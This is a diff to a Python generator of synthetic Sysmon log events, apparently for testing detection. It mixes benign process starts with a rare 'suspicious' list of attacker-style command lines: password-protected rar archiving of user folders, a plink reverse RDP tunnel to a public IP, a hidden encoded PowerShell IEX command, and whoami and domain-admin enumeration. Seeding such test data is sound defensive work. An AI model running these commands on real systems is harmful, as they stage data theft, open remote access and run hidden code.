@@ -39,24 +39,41 @@ def evtx_records(corpus):
     return out
 
 
-IMAGES = ["C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\cmd.exe",
-          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-          "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-          "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\conhost.exe",
-          "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
-          "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\reg.exe",
-          "C:\\Windows\\System32\\net.exe", "C:\\Windows\\System32\\schtasks.exe",
-          "C:\\Users\\u1\\AppData\\Local\\Temp\\setup.exe"]
-CMDS = ["\"{img}\" -k netsvcs -p -s Schedule", "\"{img}\" /c echo hello > nul",
-        "\"{img}\" -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1",
-        "\"{img}\" --type=renderer --field-trial-handle=1736,{n}", "\"{img}\" /n /e,C:\\Users\\u1",
-        "\"{img}\" 0xffffffff -ForceV1", "\"{img}\" /n \"C:\\Users\\u1\\Documents\\report{n}.docx\"",
-        "\"{img}\" shell32.dll,Control_RunDLL", "\"{img}\" query HKLM\\Software\\Vendor /v Version",
-        "\"{img}\" use \\\\fs01\\share{n}", "\"{img}\" /query /fo csv", "\"{img}\" /S /v/qn"]
-SUSPICIOUS = ["\"{img}\" -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
-              "\"{img}\" /c whoami /all & net group \"domain admins\" /domain",
-              "\"{img}\" a -hpS3cret C:\\ProgramData\\d.rar C:\\Users",
-              "\"{img}\" -R 127.0.0.1:3389:10.0.0.5:3389 -l root -pw x 45.76.218.116"]
+# Benign process starts: (image, original file name, parent, command line).
+PROCS = [
+    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe", "C:\\Windows\\System32\\services.exe",
+     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
+    ("C:\\Windows\\System32\\conhost.exe", "CONHOST.EXE", "C:\\Windows\\System32\\cmd.exe",
+     "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
+    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe",
+     "C:\\Windows\\explorer.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" "
+     "--type=renderer --field-trial-handle=1736,{n}"),
+    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe",
+     "C:\\Windows\\explorer.exe", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" "
+     "/n \"C:\\Users\\u1\\Documents\\report{n}.docx\""),
+    ("C:\\Windows\\System32\\notepad.exe", "NOTEPAD.EXE", "C:\\Windows\\explorer.exe",
+     "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\u1\\notes{n}.txt"),
+    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", "C:\\Windows\\System32\\svchost.exe",
+     "taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}"),
+    ("C:\\Program Files\\App\\app.exe", "app.exe", "C:\\Windows\\explorer.exe",
+     "\"C:\\Program Files\\App\\app.exe\" --update-check {n}"),
+    ("C:\\Windows\\System32\\SearchProtocolHost.exe", "SearchProtocolHost.exe",
+     "C:\\Windows\\System32\\SearchIndexer.exe",
+     "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}"),
+]
+# Rare suspicious starts (1 %): Palmerworm-style tools.
+SUSPICIOUS = [
+    ("C:\\ProgramData\\rar.exe", "WinRAR.exe", "C:\\Windows\\System32\\cmd.exe",
+     "rar.exe a -hpS3cret C:\\ProgramData\\d{n}.rar C:\\Users"),
+    ("C:\\ProgramData\\plink.exe", "Plink", "C:\\Windows\\System32\\cmd.exe",
+     "plink.exe -R 127.0.0.1:3389:10.0.0.5:3389 -l root -pw x 45.76.218.116"),
+    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE",
+     "C:\\Windows\\System32\\cmd.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
+    ("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "C:\\Windows\\System32\\cmd.exe",
+     "whoami /all"),
+]
+IMAGES = [p[0] for p in PROCS]
+NET_IMAGES = [IMAGES[0], IMAGES[2], IMAGES[6]]
 USERS = ["CORP\\u1", "CORP\\u2", "NT AUTHORITY\\SYSTEM", "CORP\\admin"]
 DOMAINS = ["www.google.com", "login.microsoftonline.com", "cdn.example.net", "intranet.corp.local",
            "update.vendor.com", "api.github.com"]
@@ -71,19 +88,19 @@ def sysmon(rng, i):
     k = rng.random()
     img = rng.choice(IMAGES)
     if k < 0.5:
-        tmpl = rng.choice(SUSPICIOUS) if rng.random() < 0.01 else rng.choice(CMDS)
-        base.update({"EventID": 1, "Image": img, "CommandLine": tmpl.format(img=img, n=i),
-                     "OriginalFileName": os.path.basename(img.replace("\\", "/")).upper(),
-                     "ParentImage": rng.choice(IMAGES), "ParentCommandLine": rng.choice(IMAGES),
+        img, orig, parent, cmd = rng.choice(SUSPICIOUS) if rng.random() < 0.01 else rng.choice(PROCS)
+        base.update({"EventID": 1, "Image": img, "CommandLine": cmd.format(n=i),
+                     "OriginalFileName": orig, "ParentImage": parent, "ParentCommandLine": parent,
                      "User": rng.choice(USERS), "IntegrityLevel": "Medium",
                      "CurrentDirectory": "C:\\Users\\u1\\",
                      "Hashes": "SHA256=%064X,IMPHASH=%032X" % (rng.getrandbits(256), rng.getrandbits(128))})
     elif k < 0.7:
+        img = rng.choice(NET_IMAGES)
         base.update({"EventID": 3, "Image": img, "Protocol": "tcp", "Initiated": "true",
                      "SourceIp": "10.1.%d.%d" % (rng.randrange(256), rng.randrange(1, 255)),
                      "SourcePort": rng.randrange(1024, 65535),
                      "DestinationIp": "172.%d.%d.%d" % (rng.randrange(16, 32), rng.randrange(256), rng.randrange(1, 255)),
-                     "DestinationPort": rng.choice([443, 80, 445, 3389, 53]), "User": rng.choice(USERS)})
+                     "DestinationPort": rng.choice([443, 443, 80]), "User": rng.choice(USERS)})
     elif k < 0.85:
         base.update({"EventID": 11, "Image": img,
                      "TargetFilename": "C:\\Users\\u1\\AppData\\Local\\Temp\\f%d.tmp" % i})
